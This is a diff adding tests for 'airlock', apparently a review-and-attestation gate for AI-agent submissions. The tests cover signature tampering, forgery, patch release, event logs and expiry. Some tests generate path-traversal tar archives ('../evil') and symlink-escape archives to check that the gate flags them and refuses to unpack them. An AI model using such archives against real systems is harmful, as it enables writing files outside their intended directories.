+		'd["predicate"]["submitter"]' agent-1 'd["predicate"]["launched_by"]' alice \
+		'd["predicate"]["released_by"]' ci-1 'd["predicate"]["gate_key"]' "$keyid" \
+		'd["predicate"]["scan"]["ruleset"]' "$RS" 'd["predicate"]["scan"]["verdict"]' clean \
+		'[(a["reviewer"], a["sha256"], a["ruleset"]) for a in d["predicate"]["approvals"]]' "[('rev-1', '$SHA', '$RS')]" \
+		'd["predicate"]["agent_asserted"]' "{'labels': {'task': 'T-7'}}"
+	# The stored attestation is the one printed.
+	api GET "/v1/submissions/$S/attestation" "$CI"
+	expect_code 200 "GET attestation"
+	python3 -c 'import json, sys; assert json.load(open(sys.argv[1])) == json.load(open("att.json"))' "$OUT" ||
+		fail "GET /attestation differs from what airlock release printed"
+
+	verify_rc 0 "the attestation and the artifact" --key gate.pub att.json lib.py
+	expect_out_has "the artifact matches"
+	verify_rc 0 "the attestation alone" --key gate.pub att.json
+	expect_out_has "no artifact given"
+	AIRLOCK_PUBKEY=$PWD/data/keys/signing.pub verify_rc 0 "the key from AIRLOCK_PUBKEY" att.json lib.py
+
+	# Any byte of the artifact.
+	cp lib.py lib2.py
+	printf 'x' | dd of=lib2.py bs=1 seek=4 conv=notrunc status=none
+	verify_rc 1 "an artifact with one byte changed" --key gate.pub att.json lib2.py
+	cp lib.py lib3.py
+	printf '\n' >>lib3.py
+	verify_rc 1 "an artifact with one byte more" --key gate.pub att.json lib3.py
+	# Any byte of the payload, the signature; the payload type; no signature.
+	for w in payload-byte payload-digest sig-byte type sigs-empty; do
+		tamper att.json bad.json "$w"
+		verify_rc 1 "tampered: $w" --key gate.pub bad.json lib.py
+		verify_rc 1 "tampered: $w, no artifact" --key gate.pub bad.json
+	done
+	# Not JSON at all.
+	echo 'not an envelope' >junk.json
+	verify_rc 1 "not an envelope" --key gate.pub junk.json lib.py
+
+	# Another gate's key: neither its key verifies ours, nor ours its.
+	"$BIN" init --data "$PWD/other" >/dev/null 2>"$ERR" || fail "airlock init of a second gate"
+	verify_rc 1 "verified with another gate's key" --key other/keys/signing.pub att.json lib.py
+	verify_rc 1 "verified with another gate's key, no artifact" --key other/keys/signing.pub att.json
+	resign att.json other/keys/signing.key forged.json
+	verify_rc 0 "the forged envelope with the forger's key (the forgery is well made)" \
+		--key other/keys/signing.pub forged.json lib.py
+	verify_rc 1 "the same statement signed by another key" --key gate.pub forged.json lib.py
+	verify_rc 1 "the same statement signed by another key, no artifact" --key gate.pub forged.json
+	srv_stop
+}
+
+# ---- 7. end to end: a patch from an agent into a repository ------------------------
+
+t_end_to_end_patch() {
+	local AG CI S rc base
+	mkdir repo
+	(
+		cd repo &&
+			git init -q -b main &&
+			git config user.name 'Base Author' && git config user.email base@example.org &&
+			printf 'def add(a, b):\n    return a - b\n' >calc.py &&
+			printf '# calc\n' >README.md &&
+			git add . && git commit -q -m 'calc: first version'
+	) || fail "cannot make the repository"
+	base=$(git -C repo rev-parse HEAD)
+	git clone -q repo clone || fail "git clone"
+	# The agent's work: a commit by its author, as a patch.
+	(
+		cd repo &&
+			printf 'def add(a, b):\n    return a + b\n' >calc.py &&
+			printf 'from calc import add\nassert add(2, 2) == 4\n' >test_calc.py &&
+			git add . &&
+			GIT_AUTHOR_NAME='Ada Lovelace' GIT_AUTHOR_EMAIL=ada@example.org \
+				git commit -q -m 'calc: add adds' -m 'It subtracted.' &&
+			git format-patch -q -1 --stdout >../fix.patch
+	) || fail "cannot make the patch"
+	[ -s fix.patch ] || fail "git format-patch wrote nothing"
+
+	srv_init
+	echo 'approvals.clean = 2' >data/policy
+	srv_start
+	mk_token agent agent-1 alice
+	AG=$TOK
+	mk_token ci ci-1
+	CI=$TOK
+	reviewers 2
+	as "$AG" submit --wait --label "base.commit=$base" fix.patch
+	expect_rc 0 "airlock submit --wait of a clean patch"
+	S=$(sed -n 's/^submitted \([0-9][0-9]*\) sha256:.*/\1/p' "$OUT" | head -n 1)
+	[ -n "$S" ] || fail "no id in the submit output"
+	api GET "/v1/submissions/$S" "$ADMIN"
+	expect_all 'd["state"]' held 'd["verdict"]' clean 'd["review"]["needed"]' 2
+	# Nothing is pulled before the release.
+	as "$CI" pull "$S"
+	expect_rc 1 "airlock pull before the release"
+	expect_out_empty
+	api GET "/v1/submissions/$S/content" "$CI"
+	expect_code 403 "content for ci before the release"
+	api POST "/v1/submissions/$S/release" "$CI" --data-binary '{}'
+	expect_code 409 "release before the approvals"
+
+	as "${REV[1]}" diff "$S"
+	expect_rc 0 "airlock diff"
+	expect_out_has "return a + b"
+	as "${REV[1]}" approve "$S" -m "fixes add"
+	expect_rc 0
+	expect_out_has "held (1 of 2 approvals)"
+	approve_as "${REV[2]}" "$S"
+	expect_out_has "approved (2 of 2 approvals)"
+	as "$CI" release "$S" -o att.json
+	expect_rc 0 "airlock release by ci"
+	expect_err_has "attestation in att.json"
+	api GET "/v1/submissions/$S" "$ADMIN"
+	expect_all 'd["state"]' released
+
+	# CI: pull into git am, and verify what was pulled.
+	rc=0
+	(
+		set -o pipefail
+		AIRLOCK_URL=$URL AIRLOCK_TOKEN=$CI timeout 30 "$BIN" pull "$S" |
+			git -C clone am -q
+	) >am.out 2>am.err || rc=$?
+	[ "$rc" = 0 ] || fail "airlock pull $S | git am: exit $rc: $(cat am.err)"
+	expect_eq "$(git -C clone log -1 --format='%an <%ae>|%s|%b')" \
+		'Ada Lovelace <ada@example.org>|calc: add adds|It subtracted.' "the applied commit"
+	expect_eq "$(git -C clone rev-parse 'HEAD^{tree}')" "$(git -C repo rev-parse 'HEAD^{tree}')" \
+		"the tree after git am"
+	expect_eq "$(git -C clone rev-parse HEAD~1)" "$base" "the applied commit's parent"
+	as "$CI" pull "$S" -o pulled.patch
+	expect_rc 0 "airlock pull -o"
+	cmp -s pulled.patch fix.patch || fail "the pulled patch is not the submitted one"
+	verify_rc 0 "the attestation of the pulled patch" --key data/keys/signing.pub att.json pulled.patch
+	verify_rc 1 "the attestation against another patch" --key data/keys/signing.pub att.json <(sed 's/return a + b/return a * b/' fix.patch)
+	srv_stop
+}
+
+# ---- 8. pull of an archive ----------------------------------------------------------
+
+t_pull_archive() {
+	local AG CI S
+	srv_start
+	mk_token agent agent-1 alice
+	AG=$TOK
+	mk_token ci ci-1
+	CI=$TOK
+	reviewers 2
+	mkdir -p src/pkg/sub
+	printf 'top\n' >src/README.txt
+	printf 'x = 1\n' >src/pkg/sub/mod.py
+	ln -s pkg/sub/mod.py src/modlink # a link inside the tree: kept
+	tar -C src -cf proj.tar README.txt pkg modlink || fail "tar"
+	held "$AG" proj.tar name=proj.tar
+	S=$SID
+	expect_all 'd["verdict"]' clean
+	approve_as "${REV[1]}" "$S"
+	as "$CI" release "$S" -o att.json
+	expect_rc 0 "airlock release of the archive"
+	as "$CI" pull "$S"
+	expect_rc 2 "airlock pull of an archive without -o"
+	as "$CI" pull "$S" -o out
+	expect_rc 0 "airlock pull -o out"
+	diff -r src out >"$OUT" 2>&1 || fail "the unpacked tree differs from the packed one"
+	[ -L out/modlink ] && [ "$(readlink out/modlink)" = pkg/sub/mod.py ] ||
+		fail "the inner link is not unpacked as a link to pkg/sub/mod.py"
+	verify_rc 0 "the archive's attestation" --key data/keys/signing.pub att.json proj.tar
+
+	# An archive whose entry climbs out: flagged high, released after two
+	# approvals, and still not unpacked outside the directory.
+	python3 - <<'EOF' || fail "cannot make evil.tar"
+import io, tarfile
+with tarfile.open("evil.tar", "w", format=tarfile.USTAR_FORMAT) as t:
+    for name, data in [("fine.txt", b"fine\n"), ("../evil", b"pwned\n"), ("after.txt", b"after\n")]:
+        i = tarfile.TarInfo(name)
+        i.size = len(data)
+        t.addfile(i, io.BytesIO(data))
+EOF
+	held "$AG" evil.tar name=evil.tar
+	S=$SID
+	expect_all 'd["verdict"]' flagged 'd["worst"]' high \
+		'[f["severity"] for f in R("airlock.archive-path")]' "['high']" 'd["review"]["needed"]' 2
+	approve_as "${REV[1]}" "$S"
+	standing "$S" held 1 2
+	approve_as "${REV[2]}" "$S"
+	as "$CI" release "$S"
+	expect_rc 0 "airlock release of evil.tar"
+	mkdir box
+	as "$CI" pull "$S" -o box/out
+	[ "$RC" != 0 ] || fail "airlock pull unpacked an archive with '../evil' and exited 0"
+	[ ! -e box/evil ] || fail "airlock pull wrote box/evil, outside box/out"
+	[ ! -e evil ] || fail "airlock pull wrote ./evil"
+	find "$WORK" -name evil ! -path "$PWD/box/out/*" >evil.found
+	[ ! -s evil.found ] || fail "a file named evil appeared: $(cat evil.found)"
+	expect_eq "$(cd box && find . -mindepth 1 ! -path './out' ! -path './out/*' | wc -l)" 0 "entries in box outside box/out"
+	srv_stop
+}
+
+# An archive with links that leave the directory: pull promises "no links
+# leaving it" (airlock pull --help), so none may be made, and nothing may be
+# written through one.
+t_pull_archive_links_stay_inside() {
+	local AG CI l t
+	declare -A S
+	srv_start
+	mk_token agent agent-1 alice
+	AG=$TOK
+	mk_token ci ci-1
+	CI=$TOK
+	reviewers 2
+	python3 - <<'PY' || fail "cannot make the archives"
+import io, tarfile
+def mk(path, entries):
+    with tarfile.open(path, "w", format=tarfile.USTAR_FORMAT) as t:
+        for name, data, link in entries:
+            i = tarfile.TarInfo(name)
+            if link is not None:
+                i.type = tarfile.SYMTYPE
+                i.linkname = link
+                t.addfile(i)
+            else:
+                i.size = len(data)
+                t.addfile(i, io.BytesIO(data))
+# a link out, then a file written through it
+mk("through.tar", [("ok.txt", b"ok\n", None), ("up", None, "../.."), ("up/evil2", b"pwned\n", None)])
+# links out, nothing else
+mk("links.tar", [("ok.txt", b"ok\n", None), ("up", None, "../.."), ("abs", None, "/tmp")])
+PY
+	# Released: flagged high (symlink-escape), two approvals.
+	for t in through links; do
+		held "$AG" "$t.tar" "name=$t.tar"
+		expect_all 'd["verdict"]' flagged 'd["worst"]' high 'len(R("airlock.symlink-escape")) > 0' True
+		approve_as "${REV[1]}" "$SID"
+		approve_as "${REV[2]}" "$SID"
+		as "$CI" release "$SID"
+		expect_rc 0 "airlock release of $t.tar"
+		S[$t]=$SID
+	done
+	# Nothing written through the link.
+	mkdir -p box1/in
+	as "$CI" pull "${S[through]}" -o box1/in/out
+	echo "airlock pull of through.tar: exit $RC; $(cat "$ERR")"
+	[ "$RC" != 0 ] || fail "airlock pull of through.tar exited 0"
+	find "$WORK" -name evil2 >evil.found
+	[ ! -s evil.found ] || fail "airlock pull wrote through a link: $(cat evil.found)"
+	# No link that leaves the directory.
+	mkdir -p box2/in
+	as "$CI" pull "${S[links]}" -o box2/in/out
+	echo "airlock pull of links.tar: exit $RC; $(cat "$ERR")"
+	local bad=
+	for l in $(find box1/in/out box2/in/out -type l 2>/dev/null | sort); do
+		t=$(readlink "$l")
+		case $t in
+		/* | ..*) bad="$bad $l -> $t;" ;;
+		esac
+	done
+	[ -z "$bad" ] || fail "airlock pull made links leaving the directory (the pull of links.tar exited $RC):$bad"
+	srv_stop
+}
+
+# After the release the stored bytes are still checked: pull hands out
+# nothing that is not what was released.
+t_pull_refuses_altered_blob() {
+	local AG CI S f
+	srv_start
+	mk_token agent agent-1 alice
+	AG=$TOK
+	mk_token ci ci-1
+	CI=$TOK
+	reviewers 1
+	printf 'released bytes\n' >data.txt
+	held "$AG" data.txt name=data.txt
+	S=$SID
+	approve_as "${REV[1]}" "$S"
+	as "$CI" release "$S"
+	expect_rc 0 "airlock release"
+	as "$CI" pull "$S" -o first.txt
+	expect_rc 0 "airlock pull"
+	cmp -s first.txt data.txt || fail "pulled bytes differ"
+	# A second release: refused, the first attestation stands.
+	api GET "/v1/submissions/$S/attestation" "$CI"
+	cp "$OUT" att1.json
+	api POST "/v1/submissions/$S/release" "$CI" --data-binary '{}'
+	expect_code 409 "a second release"
+	api GET "/v1/submissions/$S/attestation" "$CI"
+	cmp -s "$OUT" att1.json || fail "the attestation changed after a refused second release"
+	f=$(blob "$SHA")
+	chmod u+w "$f"
+	printf 'RELEASED bytes\n' >"$f" # same size
+	chmod 0400 "$f"
+	as "$CI" pull "$S" -o second.txt
+	[ "$RC" != 0 ] || fail "airlock pull of altered bytes exited 0"
+	[ ! -e second.txt ] || fail "airlock pull wrote altered bytes to second.txt"
+	chmod u+w "$f"
+	printf 'X' >>"$f" # another size
+	chmod 0400 "$f"
+	as "$CI" pull "$S" -o third.txt
+	[ "$RC" != 0 ] || fail "airlock pull of grown bytes exited 0"
+	[ ! -e third.txt ] || fail "airlock pull wrote grown bytes to third.txt"
+	srv_stop
+}
+
+# ---- 9. every decision is an event -------------------------------------------------
+
+t_events_record_decisions() {
+	local AG CI S
+	srv_start
+	mk_token agent agent-1 alice
+	AG=$TOK
+	mk_token ci ci-1
+	CI=$TOK
+	reviewers 2
+	curlsh_file install.sh
+	held "$AG" install.sh name=install.sh
+	S=$SID
+	as "${REV[1]}" approve "$S" # refused: not read; leaves no approve event
+	expect_rc 1
+	approve_as "${REV[1]}" "$S"
+	approve_as "${REV[2]}" "$S"
+	as "$CI" release "$S" -o att.json
+	expect_rc 0 "airlock release"
+	events "$S"
+	expect_all '[e["action"] for e in d["events"]]' \
+		"['submit', 'scan.start', 'scan.finish', 'view', 'approve', 'view', 'approve', 'approved', 'release']" \
+		'[e["actor"] for e in d["events"]]' \
+		"['agent-1', None, None, 'rev-1', 'rev-1', 'rev-2', 'rev-2', 'rev-2', 'ci-1']" \
+		'[e["id"] for e in d["events"]] == sorted(e["id"] for e in d["events"])' True \
+		'all(e["at"] for e in d["events"])' True \
+		'[e["detail"].split(" ")[0] for e in E("approve")]' "['sha256=$SHA', 'sha256=$SHA']" \
+		'E("approved")[0]["detail"].split(" ")[:2]' "['approvals=2', 'needed=2']"
+	# Auditors and reviewers read the same record; agents and ci do not.
+	api GET "/v1/submissions/$S/events" "${REV[1]}"
+	expect_code 200 "events for a reviewer"
+	api GET "/v1/submissions/$S/events" "$AG"
+	expect_code 403 "events for the agent"
+	api GET "/v1/submissions/$S/events" "$CI"
+	expect_code 403 "events for ci"
+	srv_stop
+}
+
+# ---- 10. expiry --------------------------------------------------------------------
+
+t_hold_expiry() {
+	local AG CI S K
+	srv_init
+	echo 'hold_expiry = 3s' >data/policy
+	srv_start
+	mk_token agent agent-1 alice
+	AG=$TOK
+	mk_token ci ci-1
+	CI=$TOK
+	reviewers 1
+	echo 'hello' >a.txt
+	submit "$AG" a.txt name=a.txt
+	S=$SID
+	local SHA_S=$SHA
+	# A second one, approved while held: approved submissions do not expire.
+	echo 'second' >b.txt
+	submit "$AG" b.txt name=b.txt
+	K=$SID
+	wait_state "$K" held 10
+	RS=$(jsonq 'd["scan"]["ruleset"]')
+	view "${REV[1]}" "$K"
+	approve_raw "${REV[1]}" "$K" "$SHA" "$RS"
+	expect_code 200 "approve within the hold time"
+
+	wait_state "$S" expired 10
+	events "$S"
+	expect_all '[e["action"] for e in d["events"]][-1]' expire \
+		'[e["actor"] for e in E("expire")]' '[None]'
+	view "${REV[1]}" "$S"
+	approve_raw "${REV[1]}" "$S" "$SHA_S" "$RS"
+	expect_code 403 "approve an expired submission"
+	expect_error_json "${REV[1]}"
+	as "${REV[1]}" approve "$S"
+	expect_rc 1 "airlock approve of an expired submission"
+	expect_err_has "expired"
+	api POST "/v1/submissions/$S/release" "$CI" --data-binary '{}'
+	expect_code 409 "release an expired submission"
+	as "$ADMIN" reject "$S" -m "too late anyway"
+	expect_rc 1 "airlock reject of an expired submission"
+	standing "$S" expired 0 1
+	standing "$K" approved 1 1
+	as "$CI" release "$K"
+	expect_rc 0 "release of the approved one after the hold time"
+	srv_stop
+}
+
+run_tests
